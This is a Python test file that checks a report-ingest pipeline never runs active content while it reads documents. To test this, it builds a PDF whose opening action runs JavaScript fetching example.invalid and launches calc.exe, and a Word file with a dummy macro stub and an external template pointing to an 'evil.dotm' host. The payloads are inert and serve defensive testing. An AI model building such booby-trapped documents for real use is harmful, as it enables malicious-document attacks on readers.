"""Reports from elsewhere are read, never run: a PDF's JavaScript and launch actions and a
Word file's macros and external links are ignored. While such files are ingested, every
way of starting a program or opening a connection is refused and recorded."""

from __future__ import annotations

import os
import socket
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
from reportlab.pdfgen import canvas

from briefer.ingest.pipeline import parse_document
from tests.conftest import SOURCES


@pytest.fixture
def nothing_runs(monkeypatch):
    attempts: list[str] = []

    def refuse(name):
        def attempt(*args, **kwargs):
            attempts.append(name)
            raise OSError(f"{name} attempted while reading a report")

        return attempt

    for module, name in (
        (subprocess, "Popen"),
        (os, "system"),
        (os, "execv"),
        (os, "execve"),
        (os, "posix_spawn"),
        (socket, "create_connection"),
        (socket, "getaddrinfo"),
    ):
        monkeypatch.setattr(module, name, refuse(f"{module.__name__}.{name}"))
    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    yield attempts
    assert attempts == []


def _report_lines() -> list[str]:
    """Enough of a real report for the pipeline to find a meeting in it."""
    text = (SOURCES / "gcim-regional-hearing-americas-2005.txt").read_text(encoding="utf-8")
    return [line for line in text.splitlines()[:160]]


def _pdf_with_actions(path: Path) -> None:
    """A report whose opening runs JavaScript and launches a program, in a viewer that
    obeys such things."""
    pdf = canvas.Canvas(str(path))
    y = 800
    for line in _report_lines():
        if y < 60:
            pdf.showPage()
            y = 800
        pdf.drawString(50, y, line)
        y -= 14
    pdf.showPage()
    launch = PDFDictionary({"S": PDFName("Launch"), "F": PDFString("calc.exe")})
    pdf._doc.Catalog.OpenAction = PDFDictionary(  # run a script on opening, then a program
        {
            "S": PDFName("JavaScript"),
            "JS": PDFString(
                'app.launchURL("http://example.invalid/x"); this.exportDataObject({nLaunch: 2});'
            ),
            "Next": launch,
        }
    )
    pdf.save()


def _docx_with_macros_and_links(path: Path) -> None:
    """A Word file carrying a macro project, an external template and a field that would
    fetch a web page: Word asks before running any of them; Briefer reads the text only."""
    document = docx.Document()
    for line in _report_lines():
        document.add_paragraph(line)
    document.save(str(path))
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)
        package.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" '
            'TargetMode="External"/></Relationships>',
        )


@pytest.mark.parametrize(
    "maker, name", [(_pdf_with_actions, "actions.pdf"), (_docx_with_macros_and_links, "macros.docx")]
)
def test_active_content_is_never_run(nothing_runs, tmp_path: Path, maker, name) -> None:
    path = tmp_path / name
    maker(path)
    raw = path.read_bytes()
    if name.endswith(".pdf"):  # the active content really is in the file
        assert b"/OpenAction" in raw and b"/JavaScript" in raw and b"/Launch" in raw
    else:
        assert "word/vbaProject.bin" in zipfile.ZipFile(path).namelist()
    parsed = parse_document(path)
    text = " ".join(section.text for meeting in parsed.meetings for section in meeting.sections)
    assert "Hearing" in text and len(text) > 2000  # the report was read
    assert "launchURL" not in text and "calc.exe" not in text
